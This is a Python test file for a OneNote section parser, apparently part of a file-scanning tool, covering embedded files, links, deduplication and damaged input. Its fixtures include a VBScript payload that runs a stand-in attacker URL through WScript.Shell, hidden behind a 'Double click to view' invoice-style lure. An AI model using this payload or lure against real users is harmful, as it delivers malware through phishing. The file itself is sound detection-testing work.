"""OneNote sections: files, names, text, links."""

from __future__ import annotations

import random
import struct

from sabaki.files import onenote
from sabaki.files.opened import Asked, Opened
from sabaki.model.finding import State

HEADER = (
    bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3") + b"\0" * 32 + bytes.fromhex("3fdd9a101b91f549a5d01791edc8aed8")
)
PNG = b"\x89PNG\r\n\x1a\n" + b"\0" * 40
SCRIPT = b'On Error Resume Next\r\nSet s = CreateObject("WScript.Shell")\r\ns.Run "https://evil.example/x"\r\n'


def blob(content: bytes) -> bytes:
    """A FileDataStoreObject with its footer."""
    head = bytes.fromhex("e716e3bd65261145a4c48d4d0b7a9eac") + struct.pack("<QIQ", len(content), 0, 0)
    return head + content + b"\0" * (-len(content) % 8) + bytes.fromhex("22a7fb71790f0b4abb13899256426b24")


def wide(text: str) -> bytes:
    coded = text.encode("utf-16-le") + b"\0\0"
    return struct.pack("<I", len(coded)) + coded


def section(*pieces: bytes) -> bytes:
    return HEADER + b"\0" * 900 + b"\0\0\0\0".join(pieces) + b"\0" * 64


def read(content: bytes) -> Opened:
    return onenote.read(content, Asked("a.one"))


def test_script_under_a_picture() -> None:
    opened = read(
        section(
            wide("請求書のご確認"), wide("Double click to view"), wide("button.png"), wide("Open.vbs"),
            wide("Z:\\builder\\Open.vbs"), wide("Calibri"), blob(PNG), blob(SCRIPT),
        )
    )  # fmt: skip
    assert [(child.name, child.content) for child in opened.children] == [("button.png", PNG), ("Open.vbs", SCRIPT)]
    assert [(trait.id, trait.detail) for trait in opened.traits] == [("embedded_file", "Open.vbs")]
    assert opened.title == "請求書のご確認"
    assert "Double click to view" in opened.text
    assert "Z:\\builder" in opened.text
    assert "Calibri" not in opened.text


def test_links_wide_and_narrow() -> None:
    opened = read(section(wide("See https://a.example/one here"), b"\x01https://a.example/two\0", wide("x")))
    assert [link.raw for link in opened.links] == ["https://a.example/one", "https://a.example/two"]
    assert opened.links[0].text == "See https://a.example/one here"


def test_the_same_file_of_two_revisions_comes_once() -> None:
    assert len(read(section(blob(SCRIPT), blob(SCRIPT))).children) == 1


def test_cut_off_file_is_kept() -> None:
    content = section(blob(SCRIPT))
    opened = read(content[: content.index(SCRIPT) + 30])
    assert opened.children[0].content == SCRIPT[:30]
    assert opened.traits[0].id == "damaged"


def test_false_length_does_not_swallow_the_next_file() -> None:
    lie = bytearray(blob(SCRIPT))
    lie[16:24] = struct.pack("<Q", 1 << 40)
    opened = read(section(bytes(lie), blob(PNG)))
    assert [child.content for child in opened.children][1] == PNG


def test_packed_for_the_cloud_is_said() -> None:
    content = HEADER[:48] + bytes.fromhex("2fe98d63d4a6c14b9a36b3fc2511a5b7") + b"\0" * 100
    assert read(content).state is State.PERMERROR


def test_never_raises_on_damage() -> None:
    whole = section(wide("a.vbs"), wide("日本語のテキスト"), blob(SCRIPT), blob(PNG))
    dice = random.Random(11)
    for end in range(0, len(whole), 17):
        read(whole[:end])
    for _ in range(200):
        broken = bytearray(whole)
        for _ in range(4):
            broken[dice.randrange(len(broken))] = dice.randrange(256)
        read(bytes(broken))
